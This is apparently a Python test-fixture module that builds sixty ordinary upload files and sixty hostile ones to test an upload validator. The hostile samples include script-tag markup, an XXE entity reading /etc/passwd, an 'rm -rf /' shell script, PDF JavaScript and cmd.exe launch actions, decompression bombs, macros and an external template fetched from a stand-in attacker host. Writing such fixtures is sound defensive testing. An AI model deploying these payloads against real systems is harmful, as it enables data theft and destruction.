"""Sixty files that officials attach, and sixty that nobody should be able to attach."""

import io
import random
import zipfile
from collections.abc import Iterator
from pathlib import Path

from docx import Document
from PIL import Image, PngImagePlugin

ROOT = Path(__file__).resolve().parents[2]
PDF = (
    b"%%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n%s\n%%%%EOF\n"
)
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
PARTS = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def good_files() -> Iterator[tuple[str, bytes, str]]:
    """(name, content, form): twenty pictures, ten PDF, thirty Office files, ours among them."""
    chance = random.Random(5)
    for number in range(10):
        size = (chance.randint(1, 900), chance.randint(1, 700))
        yield f"foto {number}.jpg", picture("JPEG", size, "RGB"), "JPEG"
        mode = chance.choice(["RGB", "RGBA", "L", "P", "1"])
        yield f"pindaian {number}.png", picture("PNG", size, mode), "PNG"
        yield f"surat {number}.pdf", PDF % f"% {chance.random()}".encode(), "PDF"
    papers = sorted(ROOT.glob("petasama/*/documents/*.docx"))
    for number in range(10):
        yield f"naskah {number}.docx", papers[number % len(papers)].read_bytes(), "DOCX"
        yield f"data {number}.xlsx", office("xlsx"), "XLSX"
        yield f"paparan {number}.pptx", office("pptx"), "PPTX"


def hostile_files() -> Iterator[tuple[str, bytes]]:
    """(name, content): scripts, programs, bombs, masquerades, broken files; each in several disguises."""
    markup = [
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"<!doctype html><script>alert(1)</script>",
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        b"MZ\x90\x00 program", b"\x7fELF program", b"#!/bin/sh\nrm -rf /\n", b"GIF89a" + b"\0" * 40, b"BM" + b"\0" * 60,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, b"", b"PK\x05\x06" + b"\0" * 18, b"Rar!\x1a\x07\x00",
        b"\x1f\x8b\x08\0\0\0\0\0", b"7z\xbc\xaf\x27\x1c", b"RIFF\0\0\0\0WEBP", b"=HYPERLINK(\"http://jahat\")",
    ]  # fmt: skip
    for number, content in enumerate(markup):
        yield f"surat-{number}{('.pdf', '.png', '.docx', '.jpg')[number % 4]}", content
    yield from hostile_pdf()
    yield from hostile_pictures()
    yield from hostile_office()


def hostile_pdf() -> Iterator[tuple[str, bytes]]:
    inside = [
        b"3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj", b"3 0 obj<</S/J#61vaScript>>endobj",
        b"3 0 obj<</S/Launch/F(cmd.exe)>>endobj", b"3 0 obj<</EmbeddedFiles 4 0 R>>endobj",
        b"3 0 obj<</Type/RichMedia>>endobj", b"3 0 obj<</XFA 4 0 R>>endobj", b"3 0 obj<</S/SubmitForm>>endobj",
        b"3 0 obj<</S/ImportData>>endobj", b"trailer<</Encrypt 9 0 R>>", b"3 0 obj<</S/#4Aava#53cript>>endobj",
    ]  # fmt: skip
    for number, extra in enumerate(inside):
        yield f"laporan-{number}.pdf", PDF % extra
    whole = PDF % b""
    yield "terpotong.pdf", whole[: len(whole) // 2]
    yield "berawalan.pdf", b"<html><script>1</script>" + whole
    yield "berekor.pdf", whole + b"<script>1</script>" * 400


def hostile_pictures() -> Iterator[tuple[str, bytes]]:
    jpeg, png = picture("JPEG", (300, 200), "RGB"), picture("PNG", (300, 200), "RGB")
    for name, content in (("foto.jpg", jpeg), ("foto.png", png)):
        yield f"potong-{name}", content[: len(content) // 3]
        yield f"kosong-{name}", content[:12]
        yield f"acak-{name}", content[:24] + bytes(random.Random(1).randbytes(len(content) - 24))
    yield "raksasa.png", png[:16] + (60_000).to_bytes(4, "big") * 2 + png[24:]
    yield "besar.png", picture("PNG", (6_000, 6_000), "1")


def hostile_office() -> Iterator[tuple[str, bytes]]:
    for kind in PARTS:
        yield f"makro.{kind}", office(kind, {"word/vbaProject.bin": b"makro"})
        yield f"ole.{kind}", office(kind, {"word/embeddings/oleObject1.bin": b"objek"})
        yield f"program.{kind}", office(kind, {"word/media/gambar.exe": b"MZ"})
        yield f"luar.{kind}", office(kind, {"word/_rels/settings.xml.rels": outside("attachedTemplate")})
        yield f"entitas.{kind}", office(kind, {"word/isi.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"})
        yield f"bom.{kind}", office(kind, {"word/media/nol.bin": b"\0" * 120_000_000})
        yield f"potong.{kind}", office(kind)[:-40]
    yield "tanpa-jenis.docx", archive({"word/document.xml": b"<a/>"})
    yield "bukan-office.docx", archive({"[Content_Types].xml": TYPES.encode(), "index.html": b"<script>1</script>"})


def picture(form: str, size: tuple[int, int], mode: str) -> bytes:
    """A picture with notes about place and maker, as phones write them."""
    made, image = (
        io.BytesIO(),
        Image.new(mode, size, 1 if mode == "1" else 90 if mode in {"L", "P"} else (20, 90, 60, 255)[: len(mode)]),
    )
    if form == "JPEG":
        notes = Image.Exif()
        notes[0x010F] = "Perangkat contoh"
        image.save(made, form, exif=notes)
    else:
        text = PngImagePlugin.PngInfo()
        text.add_text("Comment", "<script>alert(1)</script>")
        image.save(made, form, pnginfo=text)
    return made.getvalue()


def office(kind: str, more: dict[str, bytes] | None = None) -> bytes:
    if kind == "docx" and not more:
        made = io.BytesIO()
        Document().save(made)
        return made.getvalue()
    return archive({"[Content_Types].xml": TYPES.encode(), PARTS[kind]: b"<a/>", **(more or {})})


def outside(kind: str) -> bytes:
    head = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    line = f'<Relationship Id="r1" Type="{head}/{kind}" Target="http://jahat.example/a.dotm" TargetMode="External"/>'
    return f"<Relationships>{line}</Relationships>".encode()


def archive(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in parts.items():
            zipped.writestr(name, content)
    return made.getvalue()
